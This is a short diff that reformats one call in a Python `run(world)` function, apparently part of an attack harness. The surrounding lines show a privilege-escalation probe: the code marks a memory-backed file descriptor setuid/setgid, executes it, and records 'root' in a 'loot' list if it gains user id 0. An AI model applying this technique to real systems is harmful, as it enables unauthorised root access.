@@ -18,7 +18,9 @@ def run(world):
     command = [f"/proc/self/fd/{memory}", "-u"]
     try:
         os.fchmod(memory, 0o6755)
-        done = subprocess.run(command, pass_fds=[memory], capture_output=True, text=True, check=False)
+        done = subprocess.run(
+            command, pass_fds=[memory], capture_output=True, text=True, check=False
+        )
         if done.stdout.strip() == "0":
             loot.append("root")
     except OSError:
